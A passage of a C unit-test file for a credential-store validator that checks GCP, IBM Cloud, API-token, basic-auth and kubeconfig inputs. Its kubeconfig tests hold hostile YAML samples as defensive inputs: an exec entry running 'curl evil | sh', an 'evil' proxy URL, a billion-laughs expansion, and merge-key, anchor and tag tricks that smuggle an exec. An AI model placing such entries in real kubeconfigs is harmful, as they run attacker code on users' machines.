  memcpy(body_of_key, pk + strlen("-----BEGIN PRIVATE KEY-----\n"), 64);
  body_of_key[64] = '\0';
  assert_not_in_json(r.meta, body_of_key);
  assert_not_in_json(r.meta, cJSON_GetObjectItem(sa, "private_key_id")->valuestring);

  assert_int_equal(resolve(prov("gcp"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "gcp");
  assert_true(cJSON_Compare(cJSON_GetObjectItem(out, "serviceAccount"), sa, true));
  assert_no_member(out, "apiToken");
  cJSON_Delete(out);
  cs_prov_result_free(&r);
  cJSON_Delete(sa);
  free(text);
}

static void test_gcp_api_token(void **state)
{
  const char *token = "AIzaSyD-credstore-fixture-0123456789ab";
  struct cs_prov_result r;
  cJSON *out = NULL;
  char long_token[514];

  (void)state;
  expect_ok("gcp", body_with("gcp", "apiToken", token, "{\"secret\":{\"plain\":\"\"}}"), &r);
  assert_str_member(r.meta, "authType", "apiToken");
  assert_int_equal(member_count(r.meta), 1);
  assert_string_equal(r.secret, token);
  assert_not_in_json(r.meta, token);
  assert_int_equal(resolve(prov("gcp"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "gcp");
  assert_str_member(out, "apiToken", token);
  assert_no_member(out, "serviceAccount");
  cJSON_Delete(out);
  cs_prov_result_free(&r);

  memset(long_token, 't', 513);
  long_token[513] = '\0';
  expect_fail("gcp", body_with("gcp", "apiToken", long_token, NULL), CS_ERR_INVALID,
              "apiToken.plain");
  long_token[512] = '\0';
  expect_ok("gcp", body_with("gcp", "apiToken", long_token, NULL), &r);
  cs_prov_result_free(&r);
  expect_fail_s("gcp", body_with("gcp", "apiToken", "AIza key", NULL), CS_ERR_INVALID,
                "apiToken.plain", "AIza");
  expect_fail("gcp", json("{\"apiToken\":\"AIzaSy\"}"), CS_ERR_INVALID, "apiToken");
  expect_fail("gcp", json("{\"apiToken\":{\"plain\":5}}"), CS_ERR_INVALID, "apiToken.plain");
  expect_fail("gcp", json("{\"apiToken\":{\"plain\":\"\"}}"), CS_ERR_MISSING, "secret.plain");
  expect_fail("gcp", json("{}"), CS_ERR_MISSING, "secret.plain");
}

static void test_gcp_both(void **state)
{
  char *text = fixture("gcp-service-account.json", NULL);
  cJSON *b = body_with("gcp", "secret", text, NULL);
  cJSON *t = cJSON_AddObjectToObject(b, "apiToken");

  (void)state;
  cJSON_AddStringToObject(t, "plain", "AIzaSyToken");
  expect_fail_s("gcp", b, CS_ERR_INVALID, "apiToken", "AIzaSyToken");
  free(text);
}

/* The fixture with @p member replaced by @p json_value (NULL removes it). */
static char *sa_variant(const char *member, const char *json_value)
{
  char *text = fixture("gcp-service-account.json", NULL);
  cJSON *sa = json(text);
  char *out;

  cJSON_DeleteItemFromObject(sa, member);
  if (json_value)
    cJSON_AddItemToObject(sa, member, json(json_value));
  out = cJSON_Print(sa);
  cJSON_Delete(sa);
  free(text);
  return out;
}

static void test_gcp_sa_invalid(void **state)
{
  static const struct {
    const char *member, *value;
    enum cs_err code;
    const char *field;
  } cases[] = {
      {"type", "\"authorized_user\"", CS_ERR_INVALID, "secret.plain.type"},
      {"type", NULL, CS_ERR_MISSING, "secret.plain.type"},
      {"project_id", NULL, CS_ERR_MISSING, "secret.plain.project_id"},
      {"project_id", "42", CS_ERR_INVALID, "secret.plain.project_id"},
      {"private_key_id", "\"\"", CS_ERR_INVALID, "secret.plain.private_key_id"},
      {"private_key", NULL, CS_ERR_MISSING, "secret.plain.private_key"},
      {"private_key", "\"not a key\"", CS_ERR_INVALID, "secret.plain.private_key"},
      {"private_key",
       "\"-----BEGIN PUBLIC "
       "KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtestAAAAAAAAAAAAAAAAAAAA\\n"
       "-----END PUBLIC KEY-----\\n\"",
       CS_ERR_INVALID, "secret.plain.private_key"},
      {"private_key",
       "\"-----BEGIN PRIVATE "
       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
       "-----END RSA PRIVATE KEY-----\\n\"",
       CS_ERR_INVALID, "secret.plain.private_key"},
      {"private_key",
       "\"-----BEGIN PRIVATE "
       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC*KcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n"
       "-----END PRIVATE KEY-----\\n\"",
       CS_ERR_INVALID, "secret.plain.private_key"},
      {"private_key", "\"-----BEGIN PRIVATE KEY-----\\n\\n-----END PRIVATE KEY-----\\n\"",
       CS_ERR_INVALID, "secret.plain.private_key"},
      {"private_key",
       "\"-----BEGIN PRIVATE "
       "KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDRqMjsl/V7rVip\\n\"",
       CS_ERR_INVALID, "secret.plain.private_key"},
      {"client_email", "\"scanner.example.com\"", CS_ERR_INVALID, "secret.plain.client_email"},
      {"client_email", "\"@example.com\"", CS_ERR_INVALID, "secret.plain.client_email"},
      {"client_email", NULL, CS_ERR_MISSING, "secret.plain.client_email"},
  };

  (void)state;
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    char *t = sa_variant(cases[i].member, cases[i].value);
    expect_fail_s("gcp", body_with("gcp", "secret", t, NULL), cases[i].code, cases[i].field,
                  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC");
    free(t);
  }
  /* An RSA PRIVATE KEY block is accepted, as are CRLF line ends. */
  char *t = sa_variant(
      "private_key",
      "\"-----BEGIN RSA PRIVATE "
      "KEY-----\\r\\nMIIEowIBAAKCAQEA0ajI7Jf1e61YqbvyhwIDAQABAoIBAQCxAAAAAAAAAAAAAAAAAAAAAA==\\r\\n"
      "-----END RSA PRIVATE KEY-----\\r\\n\"");
  struct cs_prov_result r;
  expect_ok("gcp", body_with("gcp", "secret", t, NULL), &r);
  cs_prov_result_free(&r);
  free(t);
  expect_fail("gcp", body_with("gcp", "secret", "{\"type\":", NULL), CS_ERR_INVALID,
              "secret.plain");
  expect_fail("gcp", body_with("gcp", "secret", "[\"service_account\"]", NULL), CS_ERR_INVALID,
              "secret.plain");
}

static void test_gcp_resolve_corrupt(void **state)
{
  cJSON *meta = json("{\"authType\":\"serviceAccount\"}"), *out = NULL;

  (void)state;
  assert_int_equal(resolve(prov("gcp"), meta, "{\"type\":\"x\"}", 12, NULL, &out), CS_ERR_CRYPTO);
  assert_int_equal(resolve(prov("gcp"), meta, "AIzaSy", 6, NULL, &out), CS_ERR_CRYPTO);
  cJSON_Delete(meta);
  meta = json("{\"authType\":\"apiToken\"}");
  assert_int_equal(resolve(prov("gcp"), meta, "", 0, NULL, &out), CS_ERR_CRYPTO);
  assert_null(out);
  cJSON_Delete(meta);
}

/* ---------------------------------------------------------- ibmCloud */

static void test_basic(void **state)
{
  struct cs_prov_result r;
  struct cs_test_result tr;
  cJSON *out = NULL;
  char long_pw[4098];

  (void)state;
  expect_ok("basic", body_with("basic", "secret", "p4ss w0rd", "{\"accountID\":\"svc user\"}"), &r);
  assert_str_member(r.meta, "accountID", "svc user");
  assert_int_equal(member_count(r.meta), 1);
  assert_string_equal(r.secret, "p4ss w0rd");
  assert_not_in_json(r.meta, "p4ss");
  assert_int_equal(resolve(prov("basic"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "basic");
  assert_str_member(out, "username", "svc user");
  assert_str_member(out, "password", "p4ss w0rd");
  assert_int_equal(member_count(out), 3);
  cJSON_Delete(out);
  /* Without a url (and so without the network) there is nothing to test. */
  struct cs_prov_ctx tctx = {NULL, "b", 1, r.meta, r.secret, r.secret_len, NULL};
  assert_int_equal(prov("basic")->test(&tctx, &tr), CS_OK);
  assert_true(tr.ok);
  assert_string_equal(tr.message, "stored; nothing to test");
  cs_prov_result_free(&r);
  expect_fail("basic", body_with("basic", "secret", "pw", NULL), CS_ERR_MISSING, "accountID");
  expect_fail("basic", body_with("basic", "secret", "pw", "{\"accountID\":7}"), CS_ERR_INVALID,
              "accountID");
  expect_fail("basic", json("{\"accountID\":\"u\"}"), CS_ERR_MISSING, "secret.plain");
  expect_fail("basic", body_with("basic", "secret", "", "{\"accountID\":\"u\"}"), CS_ERR_MISSING,
              "secret.plain");
  memset(long_pw, 'p', sizeof long_pw - 1);
  long_pw[sizeof long_pw - 1] = '\0';
  expect_fail("basic", body_with("basic", "secret", long_pw, "{\"accountID\":\"u\"}"),
              CS_ERR_INVALID, "secret.plain");
}

static void test_api_token(void **state)
{
  struct cs_prov_result r;
  cJSON *out = NULL;

  (void)state;
  /* Either field; the one it came in is remembered (authType) for output. */
  expect_ok("apiToken", body_with("apiToken", "apiToken", "xoxb-123-abc", NULL), &r);
  assert_str_member(r.meta, "authType", "apiToken");
  assert_string_equal(r.secret, "xoxb-123-abc");
  assert_int_equal(resolve(prov("apiToken"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "apiToken");
  assert_str_member(out, "token", "xoxb-123-abc");
  assert_int_equal(member_count(out), 2);
  cJSON_Delete(out);
  cs_prov_result_free(&r);
  expect_ok("apiToken", body_with("apiToken", "secret", "glpat-xyz", "{\"accountID\":\"bot\"}"),
            &r);
  assert_null(cJSON_GetObjectItemCaseSensitive(r.meta, "authType"));
  assert_str_member(r.meta, "accountID", "bot");
  assert_not_in_json(r.meta, "glpat");
  cs_prov_result_free(&r);
  expect_fail("apiToken", json("{}"), CS_ERR_MISSING, "apiToken.plain");
  expect_fail("apiToken", body_with("apiToken", "secret", "has space", NULL), CS_ERR_INVALID,
              "secret.plain");
  expect_fail("apiToken", json("{\"apiToken\":{\"plain\":\"a\"},\"secret\":{\"plain\":\"b\"}}"),
              CS_ERR_INVALID, "apiToken.plain");
  expect_fail("apiToken", json("{\"apiToken\":{\"plain\":5}}"), CS_ERR_INVALID, "apiToken.plain");
}

static void test_ibm(void **state)
{
  const char *key = "Qx7_8vXk2lTq0ZrYw-Ab3cD4eF5gH6iJ7kL8mN9oP0qR";
  const char *guid = "8f3b2c1d4e5f46a7b8c9d0e1f2a3b4c5";
  struct cs_prov_result r;
  cJSON *out = NULL;
  char text[512];
  char long_key[258];

  (void)state;
  snprintf(text, sizeof text, "{\"accountGUID\":\"%s\"}", guid);
  expect_ok("ibmCloud", body_with("ibmCloud", "secret", key, text), &r);
  assert_str_member(r.meta, "accountGUID", guid);
  assert_int_equal(member_count(r.meta), 1);
  assert_string_equal(r.secret, key);
  assert_not_in_json(r.meta, key);
  assert_int_equal(resolve(prov("ibmCloud"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "ibmCloud");
  assert_str_member(out, "accountGUID", guid);
  assert_str_member(out, "apiKey", key);
  cJSON_Delete(out);
  cs_prov_result_free(&r);

  expect_fail("ibmCloud", body_with("ibmCloud", "secret", key, NULL), CS_ERR_MISSING,
              "accountGUID");
  expect_fail("ibmCloud", body_with("ibmCloud", "secret", key, "{\"accountGUID\":\"\"}"),
              CS_ERR_MISSING, "accountGUID");
  expect_fail("ibmCloud", body_with("ibmCloud", "secret", key, "{\"accountGUID\":\"a_b\"}"),
              CS_ERR_INVALID, "accountGUID");
  expect_fail("ibmCloud", body_with("ibmCloud", "secret", key, "{\"accountGUID\":123}"),
              CS_ERR_INVALID, "accountGUID");
  expect_fail("ibmCloud",
              body_with("ibmCloud", "secret", key,
                        "{\"accountGUID\":\"0123456789012345678901234567890123456789012345678901"
                        "2345678901234\"}"),
              CS_ERR_INVALID, "accountGUID");
  expect_fail("ibmCloud", json(text), CS_ERR_MISSING, "secret.plain");
  expect_fail_s("ibmCloud", body_with("ibmCloud", "secret", "Qx7 8vXk", text), CS_ERR_INVALID,
                "secret.plain", "Qx7");
  memset(long_key, 'k', 257);
  long_key[257] = '\0';
  expect_fail("ibmCloud", body_with("ibmCloud", "secret", long_key, text), CS_ERR_INVALID,
              "secret.plain");
  expect_fail("ibmCloud", json("{\"accountGUID\":\"abc\",\"secret\":{\"plain\":[]}}"),
              CS_ERR_INVALID, "secret.plain");
}

/* -------------------------------------------------------- kubeconfig */

static void kube_ok(const char *name, struct cs_prov_result *r, char **text)
{
  size_t len;
  *text = fixture(name, &len);
  expect_ok("kubeconfig", body_with("kubeconfig", "secret", *text, NULL), r);
  assert_int_equal(r->secret_len, len);
  assert_memory_equal(r->secret, *text, len);
}

static const cJSON *kube_meta(const struct cs_prov_result *r, int clusters)
{
  const cJSON *k = cJSON_GetObjectItemCaseSensitive(r->meta, "kubeconfig");
  assert_true(cJSON_IsObject(k));
  assert_int_equal(member_count(r->meta), 1);
  assert_int_equal(member_count(k), 2);
  assert_int_equal(cJSON_GetArraySize(cJSON_GetObjectItem(k, "clusters")), clusters);
  return k;
}

static void assert_cluster(const cJSON *k, int i, const char *name, const char *server)
{
  const cJSON *c = cJSON_GetArrayItem(cJSON_GetObjectItem(k, "clusters"), i);
  assert_non_null(c);
  assert_int_equal(member_count(c), 2);
  assert_str_member(c, "name", name);
  assert_str_member(c, "server", server);
}

static void test_kube_token(void **state)
{
  struct cs_prov_result r;
  char *text, *token, *ca;
  cJSON *out = NULL;
  const cJSON *k;

  (void)state;
  kube_ok("kubeconfig-token.yaml", &r, &text);
  k = kube_meta(&r, 1);
  assert_str_member(k, "currentContext", "credstore-scanner@kind-credstore");
  assert_cluster(k, 0, "kind-credstore", "https://10.96.0.1:6443");
  token = yaml_value(text, "token");
  ca = yaml_value(text, "certificate-authority-data");
  assert_not_in_json(r.meta, token);
  assert_not_in_json(r.meta, ca);

  assert_int_equal(resolve(prov("kubeconfig"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "kubeconfig");
  assert_str_member(out, "kubeconfig", text);
  cJSON_Delete(out);
  free(token);
  free(ca);
  free(text);
  cs_prov_result_free(&r);
}

static void test_kube_client_cert(void **state)
{
  struct cs_prov_result r;
  char *text, *key;
  const cJSON *k;

  (void)state;
  kube_ok("kubeconfig-client-cert.yaml", &r, &text);
  k = kube_meta(&r, 1);
  assert_str_member(k, "currentContext", "kubernetes-admin@kubernetes");
  assert_cluster(k, 0, "kubernetes", "https://127.0.0.1:6443");
  key = yaml_value(text, "client-key-data");
  assert_true(strlen(key) > 1000);
  assert_not_in_json(r.meta, key);
  assert_not_in_json(r.meta, "client-key-data");
  free(key);
  free(text);
  cs_prov_result_free(&r);
}

static void test_kube_multi(void **state)
{
  struct cs_prov_result r;
  char *text, *token;
  const cJSON *k;

  (void)state;
  kube_ok("kubeconfig-multi.yaml", &r, &text);
  k = kube_meta(&r, 3);
  assert_str_member(k, "currentContext", "staging-admin");
  assert_cluster(k, 0, "prod", "https://prod.k8s.example.internal:6443");
  assert_cluster(k, 1, "staging", "https://staging.k8s.example.internal:6443");
  assert_cluster(k, 2, "dev", "http://127.0.0.1:8080");
  token = yaml_value(text, "token");
  assert_not_in_json(r.meta, token);
  free(token);
  free(text);
  cs_prov_result_free(&r);
}

static void kube_fixture_fails(const char *name, const char *want_in_msg, const char *secret_key)
{
  char *text = fixture(name, NULL);
  char *secret = secret_key ? yaml_value(text, secret_key) : NULL;
  struct cs_prov_error err = {.field = {0}};
  cJSON *meta = (cJSON *)&sentinel_meta;

  expect_fail_s("kubeconfig", body_with("kubeconfig", "secret", text, NULL), CS_ERR_INVALID,
                "secret.plain", secret);
  assert_int_equal(cs_kubeconfig_describe(text, strlen(text), &meta, &err), CS_ERR_INVALID);
  assert_ptr_equal(meta, (cJSON *)&sentinel_meta);
  if (!strstr(err.msg, want_in_msg))
    print_error("message: %s\n", err.msg);
  assert_non_null(strstr(err.msg, want_in_msg));
  free(secret);
  free(text);
}

static void test_kube_exec_and_auth_provider(void **state)
{
  (void)state;
  kube_fixture_fails("kubeconfig-exec-eks.yaml", "users[0].user.exec", NULL);
  kube_fixture_fails("kubeconfig-exec-eks.yaml", "external binary", NULL);
  kube_fixture_fails("kubeconfig-auth-provider-gke.yaml", "users[0].user.auth-provider",
                     "access-token");
  kube_fixture_fails("kubeconfig-auth-provider-gke.yaml", "token or client-certificate",
                     "access-token");
}

static void test_kube_bad_context(void **state)
{
  (void)state;
  kube_fixture_fails("kubeconfig-bad-context.yaml", "current-context", "token");
}

#define KUBE_HEAD "apiVersion: v1\nkind: Config\n"
#define KUBE_CLUSTERS "clusters:\n- name: c1\n  cluster:\n    server: https://c1:6443\n"
#define KUBE_USERS "users:\n- name: u1\n  user:\n    token: sekrit-token-value\n"
#define KUBE_CONTEXTS "contexts:\n- name: x1\n  context:\n    cluster: c1\n    user: u1\n"
#define KUBE_CURRENT "current-context: x1\n"

static void kube_text_fails(const char *yaml, const char *want_in_msg)
{
  struct cs_prov_error err = {.field = {0}};
  cJSON *meta = (cJSON *)&sentinel_meta;
  enum cs_err e = cs_kubeconfig_describe(yaml, strlen(yaml), &meta, &err);

  if (e != CS_ERR_INVALID || !strstr(err.msg, want_in_msg))
    print_error("yaml:\n%s\ngot %d: %s\n", yaml, (int)e, err.msg);
  assert_int_equal(e, CS_ERR_INVALID);
  assert_string_equal(err.field, "secret.plain");
  assert_non_null(strstr(err.msg, want_in_msg));
  assert_null(strstr(err.msg, "sekrit"));
  assert_ptr_equal(meta, (cJSON *)&sentinel_meta);
}

static void test_kube_structure(void **state)
{
  struct cs_prov_error err = {.field = {0}};
  cJSON *meta = NULL;
  const char *ok = KUBE_HEAD KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT;

  (void)state;
  assert_int_equal(cs_kubeconfig_describe(ok, strlen(ok), &meta, &err), CS_OK);
  assert_str_member(meta, "currentContext", "x1");
  cJSON_Delete(meta);
  meta = NULL;
  /* NULL err is allowed; a user with no credentials at all is anonymous. */
  const char *anon = KUBE_CLUSTERS "users:\n- name: u1\n" KUBE_CONTEXTS KUBE_CURRENT;
  assert_int_equal(cs_kubeconfig_describe(anon, strlen(anon), &meta, NULL), CS_OK);
  cJSON_Delete(meta);

  /* JSON is YAML: kubectl accepts a JSON kubeconfig, so do we. */
  const char *as_json = "{\"clusters\":[{\"name\":\"c1\",\"cluster\":{\"server\":\"https://j\"}}],"
                        "\"users\":[{\"name\":\"u1\",\"user\":{\"token\":\"t\"}}],"
                        "\"contexts\":[{\"name\":\"x1\",\"context\":{\"cluster\":\"c1\","
                        "\"user\":\"u1\"}}],\"current-context\":\"x1\"}";
  assert_int_equal(cs_kubeconfig_describe(as_json, strlen(as_json), &meta, &err), CS_OK);
  assert_cluster(meta, 0, "c1", "https://j");
  cJSON_Delete(meta);

  kube_text_fails(KUBE_HEAD KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT, "clusters is required");
  kube_text_fails("clusters: []\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT, "at least one");
  kube_text_fails("clusters: {}\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT, "must be a list");
  kube_text_fails(KUBE_CLUSTERS KUBE_CONTEXTS KUBE_CURRENT, "users is required");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CURRENT, "contexts is required");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS, "current-context is required");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: \"\"\n",
                  "current-context must be a non-empty string");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: x2\n",
                  "current-context names no entry");
  kube_text_fails(
      "clusters:\n- name: c1\n  cluster:\n    insecure-skip-tls-verify: true\n" KUBE_USERS
          KUBE_CONTEXTS KUBE_CURRENT,
      "clusters[0].cluster.server is required");
  kube_text_fails(
      "clusters:\n- cluster:\n    server: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
      "clusters[0].name is required");
  kube_text_fails("clusters:\n- name: c1\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
                  "clusters[0].cluster is required");
  kube_text_fails(
      "clusters:\n- name: c1\n  cluster: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
      "must be a mapping");
  kube_text_fails(
      KUBE_CLUSTERS
      "- name: c1\n  cluster:\n    server: https://b\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
      "clusters[1].name repeats");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                  "contexts:\n- name: x1\n  context:\n    cluster: c1\n" KUBE_CURRENT,
                  "contexts[0].context.user is required");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                  "contexts:\n- name: x1\n  context:\n    cluster: c9\n    user: u1\n" KUBE_CURRENT,
                  "contexts[0].context.cluster (the current context's) names no entry");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS
                  "contexts:\n- name: x0\n  context:\n    cluster: c1\n    user: u1\n"
                  "- name: x1\n  context:\n    cluster: c1\n    user: u9\n" KUBE_CURRENT,
                  "contexts[1].context.user (the current context's) names no entry");
  kube_text_fails(
      KUBE_CLUSTERS
      "users:\n- name: u1\n  user:\n    token: sekrit\n"
      "- name: u2\n  user:\n    exec:\n      command: gke-gcloud-auth-plugin\n" KUBE_CONTEXTS
          KUBE_CURRENT,
      "users[1].user.exec");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT "current-context: x1\n",
                  "current-context appears twice");
  kube_text_fails("- clusters\n- users\n", "must be a mapping");
  kube_text_fails("just a string\n", "must be a mapping");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT "---\n" KUBE_CURRENT,
                  "one YAML document");
  kube_text_fails("# only a comment\n", "empty");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "current-context: \"x\\0y\"\n", "NUL");
  kube_text_fails(KUBE_CLUSTERS KUBE_USERS KUBE_CONTEXTS "? [a, b]\n: c\n" KUBE_CURRENT,
                  "mapping keys must be plain strings");
  kube_text_fails("base: &b\n  server: https://a\n" KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT,
                  "anchors");
  /* billion laughs: refused at the first alias, long before any expansion */
  kube_text_fails("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
                  "b: [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n",
                  "anchors");
  kube_text_fails("b: *a\n", "aliases");
}

/* A document whose only user is @p user_body (the lines under "  user:"). */
#define KUBE_WITH_USER(user_body)                                                                  \
  KUBE_CLUSTERS "users:\n- name: u1\n  user:\n" user_body KUBE_CONTEXTS KUBE_CURRENT
/* A document whose only cluster is @p cluster_body (the lines under "  cluster:"). */
#define KUBE_WITH_CLUSTER(cluster_body)                                                            \
  "clusters:\n- name: c1\n  cluster:\n" cluster_body KUBE_USERS KUBE_CONTEXTS KUBE_CURRENT

struct kube_case {
  const char *yaml;
  const char *want; /* in the message */
};

static void kube_cases_fail(const struct kube_case *cases, size_t n)
{
  for (size_t i = 0; i < n; i++)
    kube_text_fails(cases[i].yaml, cases[i].want);
}

static void kube_text_ok(const char *yaml)
{
  struct cs_prov_error err = {.field = {0}};
  cJSON *meta = NULL;
  enum cs_err e = cs_kubeconfig_describe(yaml, strlen(yaml), &meta, &err);

  if (e != CS_OK)
    print_error("got %d: %s\nyaml:\n%s\n", (int)e, err.msg, yaml);
  assert_int_equal(e, CS_OK);
  assert_true(cJSON_IsString(cJSON_GetObjectItem(meta, "currentContext")));
  cJSON_Delete(meta);
}

/* Issue 11: go-yaml (kubectl) honours merge keys, so `user: {<<: {exec: ...}}`
 * gives the user an exec that a key-by-key check never saw. Every spelling
 * of a merge is refused, wherever it stands, and the message says where. */
static void test_kube_merge_keys(void **state)
{
  static const struct kube_case cases[] = {
      /* at user level, block and flow style */
      {KUBE_WITH_USER("    <<:\n      exec:\n        command: /bin/sh\n"
                      "        args: [-c, 'curl evil | sh']\n"),
       "users[0].user.<<: YAML merge keys"},
      {KUBE_CLUSTERS "users:\n- name: u1\n  user: {<<: {exec: {command: /bin/sh, args: [-c, "
                     "id]}}}\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].user.<<: YAML merge keys"},
      /* after an honest field, so a first-key-only check would miss it */
      {KUBE_WITH_USER("    token: sekrit-token-value\n    <<: {exec: {command: sh}}\n"),
       "users[0].user.<<"},
      /* at entry level, carrying the whole user */
      {KUBE_CLUSTERS "users:\n- name: u1\n  <<:\n    user:\n      auth-provider:\n"
                     "        name: gcp\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].<<: YAML merge keys"},
      {KUBE_CLUSTERS
       "users:\n- {name: u1, <<: {user: {exec: {command: sh}}}}\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].<<"},
      /* at top level, at cluster level, in a context, in a sequence item */
      {"<<: {users: [{name: u1, user: {exec: {command: sh}}}]}\n" KUBE_CLUSTERS KUBE_CONTEXTS
           KUBE_CURRENT,
       "<<: YAML merge keys"},
      {KUBE_WITH_CLUSTER("    server: https://c1:6443\n    <<: {proxy-url: http://evil:3128}\n"),
       "clusters[0].cluster.<<"},
      {KUBE_CLUSTERS KUBE_USERS "contexts:\n- name: x1\n  context:\n    cluster: c1\n"
                                "    user: u1\n    <<: {namespace: kube-system}\n" KUBE_CURRENT,
       "contexts[0].context.<<"},
      /* nested merges, and merges inside the fields nobody interprets */
      {KUBE_WITH_USER("    <<: {<<: {exec: {command: sh}}}\n"), "users[0].user.<<"},
      {KUBE_WITH_USER("    token: t\n    extensions:\n    - name: e\n      extension:\n"
                      "        <<: {a: b}\n"),
       "users[0].user.extensions[0].extension.<<"},
      {KUBE_WITH_USER("    as-user-extra: {<<: {scopes: [a]}}\n"),
       "users[0].user.as-user-extra.<<"},
      /* quoted and escaped spellings: refused although go-yaml v2 merges only plain ones */
      {KUBE_WITH_USER("    \"<<\": {exec: {command: sh}}\n"), "users[0].user.<<: YAML merge"},
      {KUBE_WITH_USER("    '<<': {exec: {command: sh}}\n"), "users[0].user.<<: YAML merge"},
      {KUBE_WITH_USER("    \"\\x3c\\u003c\": {exec: {command: sh}}\n"), "users[0].user.<<"},
      {KUBE_WITH_USER("    ? <<\n    : {exec: {command: sh}}\n"), "users[0].user.<<"},
      /* a plain << as a value is go-yaml's merge marker too */
      {KUBE_WITH_USER("    token: <<\n"), "users[0].user.token: YAML merge keys"},
      {KUBE_WITH_USER("    as-groups: [a, <<]\n"), "users[0].user.as-groups[1]: YAML merge"},
      /* through an anchor and alias: refused at the anchor, before any merge */
      {"x-base: &b {exec: {command: sh}}\n" KUBE_CLUSTERS
       "users:\n- name: u1\n  user:\n    <<: *b\n" KUBE_CONTEXTS KUBE_CURRENT,
       "x-base: YAML anchors and aliases"},
      {"extensions:\n- name: e\n  extension: &b {exec: {command: sh}}\n" KUBE_CLUSTERS
       "users:\n- name: u1\n  user: {<<: *b}\n" KUBE_CONTEXTS KUBE_CURRENT,
       "extensions[0].extension: YAML anchors"},
      /* with the !!merge tag, short and verbatim, on << and on another key */
      {KUBE_WITH_USER("    !!merge <<: {exec: {command: sh}}\n"), "users[0].user.<<: YAML tags"},
      {KUBE_WITH_USER("    !<tag:yaml.org,2002:merge> <<: {exec: {command: sh}}\n"),
       "users[0].user.<<: YAML tags"},
      {KUBE_WITH_USER("    !!merge x: {exec: {command: sh}}\n"), "users[0].user.x: YAML tags"},
  };

  (void)state;
  kube_cases_fail(cases, sizeof cases / sizeof cases[0]);
  /* Through the provider: secret.plain named, outputs untouched, no secret echoed. */
  expect_fail_s("kubeconfig",
                body_with("kubeconfig", "secret",
                          KUBE_WITH_USER("    token: sekrit-token-value\n"
                                         "    <<: {exec: {command: /bin/sh}}\n"),
                          NULL),
                CS_ERR_INVALID, "secret.plain", "sekrit-token-value");
  /* A quoted << as a value is only a string. */
  kube_text_ok(KUBE_WITH_USER("    password: \"<<\"\n    username: '<<'\n"));
}

/* Anchors, aliases and tags of every kind, each on its own, anywhere. */
static void test_kube_anchors_aliases_tags(void **state)
{
  static const struct kube_case cases[] = {
      {KUBE_WITH_USER("    token: &t sekrit-token-value\n"), "users[0].user.token: YAML anchors"},
      {KUBE_CLUSTERS "users:\n- name: u1\n  user: &u\n    token: t\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].user: YAML anchors"},
      {KUBE_CLUSTERS "users: &l\n- name: u1\n" KUBE_CONTEXTS KUBE_CURRENT, "users: YAML anchors"},
      {KUBE_WITH_USER("    token: *t\n"), "users[0].user.token: YAML anchors and aliases"},
      {KUBE_CLUSTERS "users:\n- name: u1\n  user: *u\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].user: YAML anchors and aliases"},
      {KUBE_WITH_USER("    as-groups: [a, *g]\n"), "users[0].user.as-groups[1]: YAML anchors"},
      {KUBE_WITH_USER("    token: !foo t\n"), "users[0].user.token: YAML tags"},
      {KUBE_WITH_USER("    token: !<tag:example.com,2024:t> t\n"),
       "users[0].user.token: YAML tags"},
      {KUBE_WITH_USER("    token: ! t\n"), "users[0].user.token: YAML tags"},
      /* !!binary would hand kubectl the decoded bytes, not what we checked */
      {KUBE_WITH_USER("    token: !!binary c2Vrcml0\n"), "users[0].user.token: YAML tags"},
      {KUBE_WITH_USER("    !!binary ZXhlYw==: {command: sh}\n"), "users[0].user.?: YAML tags"},
      {KUBE_WITH_USER("    token: !!str t\n"), "users[0].user.token: YAML tags"},
      {KUBE_CLUSTERS "users:\n- name: u1\n  user: !!map {token: t}\n" KUBE_CONTEXTS KUBE_CURRENT,
       "users[0].user: YAML tags"},
